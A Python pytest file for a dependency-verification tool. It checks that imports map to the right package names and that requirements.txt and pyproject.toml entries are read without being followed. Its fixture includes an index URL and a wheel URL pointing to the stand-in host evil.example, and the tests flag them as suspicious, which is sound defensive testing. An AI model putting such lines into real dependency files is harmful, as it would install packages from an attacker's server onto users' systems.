"""An import is matched with the distribution that brings it; what a workspace declares is read and not followed."""

import pytest

from agentsh.verify.distributions import distribution
from agentsh.verify.packages import Declarations, declarations

REQUIREMENTS = """\
# tools
PyYAML>=6 ; python_version > '3'   # for the settings
-r other.txt
--index-url http://evil.example/simple

ruamel.yaml[jinja2]==1
evil @ https://evil.example/evil.whl
./wheels/own.whl
"""
PROJECT = """\
[project]
dependencies = [
    "rich~=14.0",
]
[project.optional-dependencies]
dev = ["pytest"]
[dependency-groups]
docs = ["mkdocs", {include-group = "dev"}]
[tool.poetry.dependencies]
python = "^3.11"
httpx = "^0.28"
"""


def lines(found: Declarations) -> dict[str, tuple[str, int | None]]:
    return {one.name: (one.path, one.line) for one in found.requirements}


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("PIL", "Pillow"),
        ("yaml", "PyYAML"),
        ("cv2", "opencv-python"),
        ("sklearn.svm", "scikit-learn"),
        ("bs4", "beautifulsoup4"),
        ("google.protobuf.message", "protobuf"),
        ("google.nothing", "google"),
        ("requests", "requests"),
    ],
)
def test_an_import_may_need_a_package_of_another_name(module: str, name: str) -> None:
    assert distribution(module) == name


def test_requirements_are_read_with_the_line_that_states_them() -> None:
    found = declarations({"requirements.txt": REQUIREMENTS, "pyproject.toml": PROJECT})
    assert lines(found) == {
        "pyyaml": ("requirements.txt", 2),
        "ruamel-yaml": ("requirements.txt", 6),
        "rich": ("pyproject.toml", 3),
        "pytest": ("pyproject.toml", 6),
        "mkdocs": ("pyproject.toml", 8),
        "httpx": ("pyproject.toml", 11),
    }
    yaml = found.of("PyYaml")
    assert yaml is not None
    assert yaml.requirement == 'PyYAML>=6 ; python_version > "3"'
    assert (yaml.allows("6.0.2"), yaml.allows("5.4"), yaml.allows("not a version")) == (True, False, True)
    assert {one.name: one.always for one in found.requirements}["pytest"] is False


def test_options_urls_and_paths_are_told_and_not_followed() -> None:
    found = declarations({"requirements.txt": REQUIREMENTS})
    assert [(one.line, one.text.split()[0]) for one in found.strange] == [
        (3, "-r"),
        (4, "--index-url"),
        (7, "evil"),
        (8, "./wheels/own.whl"),
    ]


@pytest.mark.parametrize(
    "text", ["[project\n", "project = 3\n", "[project]\ndependencies = 'rich'\noptional-dependencies = 1\n", "\0"]
)
def test_a_broken_declaration_declares_nothing(text: str) -> None:
    assert declarations({"pyproject.toml": text}) == Declarations()


def test_a_requirement_that_is_stated_twice_counts_once() -> None:
    found = declarations({"requirements.txt": "rich==14\n", "pyproject.toml": "[project]\ndependencies=['Rich']\n"})
    assert lines(found) == {"rich": ("requirements.txt", 1)}


def test_a_file_that_may_declare_more_is_noticed() -> None:
    assert declarations({}, ("main.py", "setup.py")).elsewhere
    assert not declarations({}, ("main.py",)).elsewhere
